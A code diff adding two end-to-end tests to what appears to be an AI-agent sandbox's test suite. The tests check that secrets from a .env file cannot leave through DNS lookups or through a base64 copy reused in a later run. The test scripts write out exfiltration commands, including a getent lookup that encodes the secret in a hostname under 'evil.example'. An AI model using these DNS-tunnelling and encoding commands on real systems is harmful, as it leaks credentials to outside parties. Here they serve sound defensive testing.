@@ -365,3 +365,50 @@ def old_descriptors_float(tmp_path: Path, run: Run, shared_mmap: bool) -> None:
     assert "secret" in floated.get("through-fd.txt", ""), floated
     if shared_mmap:
         assert "secret" in floated.get("through-mmap.bin", ""), floated
+
+
+def dns_names_stay(tmp_path: Path, run: Run) -> None:
+    """Issue 11's third hole, end to end: after the sandbox reads `.env`, it looks up the secret's base32 as a
+    name under a zone the policy allows. The stub answers from the policy alone (a placeholder address from
+    198.18.0.0/15, which no resolver on earth would give), so the name never left; an unknown zone is refused."""
+    ws = agent_workspace(tmp_path, {".env": "API_KEY=sk-secret\n"})
+    policy = tmp_path / "policy.flow"
+    policy.write_text("""\
+labels { secrecy public < internal < secret }
+files {
+  "**"    internal
+  ".env*" secret
+}
+endpoints { "https://*.zone.test" clearance internal as web }
+deny secret -> web "secrets never leave the sandbox"
+""")
+    name = "ifiesx2livmt243lfvwgk3djmvxgk.zone.test"  # base32 of `API_KEY=sk-secret`, lower case
+    script = (f"cat .env >/dev/null; getent hosts {name} | cut -d' ' -f1; "
+              "getent hosts 4150495f4b45593d.evil.example >/dev/null; echo unknown=$?")
+    proc = run(ws, policy, tmp_path / "run", script, ("--agent", "none", "--egress"), {})
+    lines = proc.stdout.split()
+    assert len(lines) == 2 and lines[1] == "unknown=2", proc.stdout + proc.stderr
+    assert lines[0].startswith(("198.18.", "198.19.")), proc.stdout + proc.stderr
+    db = sqlite3.connect(tmp_path / "run" / "events.db")
+    refused = {t for (t,) in db.execute("SELECT target FROM events WHERE kind = 'deny' AND op = 'dns'")}
+    assert refused == {"4150495f4b45593d.evil.example"}, "only the unknown zone is refused (A and AAAA)"
+
+
+def labels_outlive_the_run(tmp_path: Path, run: Run) -> None:
+    """Issue 11's fourth hole, end to end: run A writes a base64 copy of `.env` into the workspace; run B, with
+    another fresh run directory, reads only that copy and may no longer send (the label is the workspace's)."""
+    ws = agent_workspace(tmp_path, {".env": "API_KEY=sk-secret\n", "notes.md": "hello\n"})
+    with serving() as port:
+        policy = tmp_path / "policy.flow"
+        policy.write_text(TAINT_POLICY.format(port=port, agent=""))
+        first = run(ws, policy, tmp_path / "run-a", "base64 .env > encoded.txt && echo done",
+                    ("--agent", "none"), {})
+        assert first.stdout.split() == ["done"], first.stdout + first.stderr
+        fetch = f"curl -s --noproxy '' -o /dev/null -w '%{{http_code}}' http://127.0.0.1:{port}/"
+        second = run(ws, policy, tmp_path / "run-b",
+                     f"before=$({fetch}); cat encoded.txt >/dev/null; after=$({fetch}); echo $before $after",
+                     ("--agent", "none", "--egress"), {})
+    assert second.stdout.split() == ["200", "403"], second.stdout + second.stderr
+    db = sqlite3.connect(tmp_path / "run-b" / "events.db")
+    paths = [p for (p,) in db.execute("SELECT path FROM events WHERE kind = 'deny' AND op = 'connect'")]
+    assert paths and all("encoded.txt" in p for p in paths), paths
